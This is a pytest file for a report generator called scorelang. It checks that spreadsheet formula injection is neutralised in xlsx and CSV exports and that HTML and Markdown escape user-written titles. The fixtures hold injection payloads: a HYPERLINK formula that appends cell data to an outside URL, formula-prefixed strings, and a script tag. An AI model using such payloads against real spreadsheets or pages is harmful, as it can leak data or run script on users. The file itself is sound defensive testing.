"""Spreadsheet formula injection (issue 14): text from a rule file never becomes a formula.

A title `=HYPERLINK("http://x"&A1,"click")` or an objective code "=1+1" used to be written as
live formulas into the xlsx report, and as cells a spreadsheet runs into the CSV. Now every
xlsx text cell is a string cell (quote-prefixed when it starts like a formula), and every CSV
text cell that starts with =, +, -, @, tab or CR gets a leading `'` (OWASP), while the figures
scorelang writes as numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

import scorelang
from scorelang import cli
from scorelang.report.csv import text_cell

HYPERLINK = '=HYPERLINK("http://x"&A1,"click")'

# A plan whose every kind of text a reader may write starts like a formula.
PLAN = r'''plan demo "=1+2 Piano" {
  period H1 "Monitoraggio" ends 2020-06-30
  band low "@low" colour "#c0392b" from 0%
  band high "+high" colour "#27ae60" from 60%
}

indicator partecipanti "=HYPERLINK(\"http://x\"&A1,\"click\")" { unit N target >= 600 }
indicator calo "-calo" { unit N target <= -5 }

area "1" "Area" {
  objective "=1+1" "Obj" weight 100% {
    partecipanti 50%
    calo 50%
  }
}
'''
VALUES = "period: H1\nvalues:\n  partecipanti: 300\n  calo: -4\n"


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    rules, values = tmp_path / "plan.score", tmp_path / "values.yaml"
    rules.write_text(PLAN, encoding="utf-8")
    values.write_text(VALUES, encoding="utf-8")
    assert scorelang.diagnose(PLAN, "plan.score")[1] == []  # a valid plan, not a broken one
    return rules, values


def _cells(path: Path) -> list[tuple[str, str, object, str]]:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(path)
    return [(sheet.title, cell.coordinate, cell.value, cell.data_type)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


# ---- xlsx ------------------------------------------------------------------------------------
def test_xlsx_report_has_no_formula_and_keeps_the_text(hostile, tmp_path, capsys):
    pytest.importorskip("openpyxl")
    rules, values = hostile
    out = tmp_path / "report.xlsx"
    assert cli.main(["score", str(rules), "--values", str(values), "--format", "xlsx",
                     "-o", str(out)]) == 0
    cells = _cells(out)
    assert [c for c in cells if c[3] == "f"] == []
    texts = {c[2] for c in cells if isinstance(c[2], str)}
    assert HYPERLINK in texts  # the indicator title, as written, as text
    assert "=1+1" in texts and "=1+1/partecipanti" in texts  # the objective's code and a use
    assert {"@low", "+high", "-calo"} <= texts
    # The figures stay numbers: the measured -4 and the target -5 of `calo`.
    numbers = {c[2] for c in cells if c[0] == "Indicators" and c[3] == "n"}
    assert -4 in numbers and -5 in numbers


def test_xlsx_text_that_starts_like_a_formula_is_quote_prefixed(hostile, tmp_path, capsys):
    openpyxl = pytest.importorskip("openpyxl")
    rules, values = hostile
    out = tmp_path / "report.xlsx"
    assert cli.main(["score", str(rules), "--values", str(values), "--format", "xlsx",
                     "-o", str(out)]) == 0
    sheet = openpyxl.load_workbook(out)["Indicators"]
    title = next(cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK)
    assert title.data_type == "s" and title.quotePrefix


def test_xlsx_comparison_view_has_no_formula(hostile, tmp_path, capsys):
    pytest.importorskip("openpyxl")
    rules, values = hostile
    rules.write_text(PLAN.replace('area "1"', 'area "=2"'), encoding="utf-8")
    second = tmp_path / "values2.yaml"
    second.write_text(VALUES.replace("300", "500"), encoding="utf-8")
    out = tmp_path / "compare.xlsx"
    assert cli.main(["compare", str(rules), str(rules), "--values", str(values),
                     "--values", str(second), "--format", "xlsx", "-o", str(out)]) == 0
    cells = _cells(out)
    assert [c for c in cells if c[3] == "f"] == []
    texts = {c[2] for c in cells if isinstance(c[2], str)}
    assert "=2 - Area" in texts  # the area's row, at depth 0: not indented, text as written
    assert any(HYPERLINK in text for text in texts)


def test_xlsx_with_control_characters_in_a_title_is_written(tmp_path, capsys):
    openpyxl = pytest.importorskip("openpyxl")
    rules, values = tmp_path / "plan.score", tmp_path / "values.yaml"
    rules.write_text(PLAN.replace('"-calo"', '"ca\x07lo"'), encoding="utf-8")
    values.write_text(VALUES, encoding="utf-8")
    out = tmp_path / "report.xlsx"
    assert cli.main(["score", str(rules), "--values", str(values), "--format", "xlsx",
                     "-o", str(out)]) == 0  # openpyxl refused it: IllegalCharacterError
    texts = {cell.value for sheet in openpyxl.load_workbook(out).worksheets
             for row in sheet.iter_rows() for cell in row}
    assert "ca\ufffdlo" in texts


def test_modena_xlsx_has_no_formula_either(modena_result, tmp_path):
    pytest.importorskip("openpyxl")
    from scorelang.report.xlsx import to_xlsx

    out = tmp_path / "modena.xlsx"
    to_xlsx(modena_result, out)
    assert [c for c in _cells(out) if c[3] == "f"] == []


# ---- csv -------------------------------------------------------------------------------------
def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_csv_neutralises_text_and_keeps_negative_numbers(hostile, capsys):
    rules, values = hostile
    assert cli.main(["score", str(rules), "--values", str(values), "--format", "csv",
                     "--view", "indicators", "--locale", "it"]) == 0
    rows = _csv_rows(capsys.readouterr().out)
    header, body = rows[0], rows[1:]
    by_id = {row[0]: dict(zip(header, row)) for row in body}
    used = by_id["'=1+1/partecipanti"]
    assert used["Indicatore"] == "'" + HYPERLINK
    calo = by_id["'=1+1/calo"]
    assert calo["Indicatore"] == "'-calo"
    assert calo["Valore"] == "-4"  # a number scorelang wrote: no quote
    assert calo["Target"] == "<= -5 N."
    for row in body:
        for text in row:
            assert not text.startswith(("=", "+", "@", "\t", "\r")), row


def test_csv_exact_target_is_text_not_a_formula(modena_result):
    text = scorelang.render(modena_result, "csv", view="indicators", locale="en")
    rows = list(csv.reader(io.StringIO(text)))
    targets = [row[3] for row in rows[1:]]
    assert "'= 0 N." in targets and "= 0 N." not in targets
    values = [row[4] for row in rows[1:]]
    assert "-17.82" in values and "-1527.97" in values  # negative figures stay numbers


def test_csv_text_cell_examples():
    for text in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx"):
        assert text_cell(text) == "'" + text
    for text in ("", "1", "Area", "'quoted", "<= -18 gg", " =x"):
        assert text_cell(text) == text


@given(st.text())
def test_csv_text_cell_never_starts_like_a_formula_and_loses_nothing(text):
    cell = text_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


# ---- the other exports of user text ---------------------------------------------------------
def test_markdown_escapes_a_pipe_in_a_title(tmp_path):
    plan = scorelang.loads(PLAN.replace('"-calo"', '"calo | drop"'), "plan.score")
    result = plan.evaluate(scorelang.loads_values(VALUES, "values.yaml"))
    text = scorelang.render(result, "markdown", view="indicators")
    row = next(line for line in text.splitlines() if "calo \\| drop" in line)
    header = next(line for line in text.splitlines() if line.startswith("| "))
    assert row.count(" | ") == header.count(" | ")  # as many columns as the heading


def test_html_escapes_titles(tmp_path):
    from scorelang.report.html import to_html

    plan = scorelang.loads(PLAN.replace('"-calo"', '"<script>alert(1)</script>"')
                           .replace('"=1+2 Piano"', '"<b>Piano</b> & co"'), "plan.score")
    result = plan.evaluate(scorelang.loads_values(VALUES, "values.yaml"))
    html = to_html(result)
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)" in html
    assert "<b>Piano</b>" not in html and "&lt;b&gt;Piano&lt;/b&gt; &amp; co" in html


def test_the_modena_report_is_unchanged_by_all_this(modena_result):
    # The neutralising touches text only: every score in the CSV is what it was.
    text = scorelang.render(modena_result, "csv", view="summary", locale="it")
    assert "62,96" in text and not any(line.startswith("'") for line in text.splitlines())
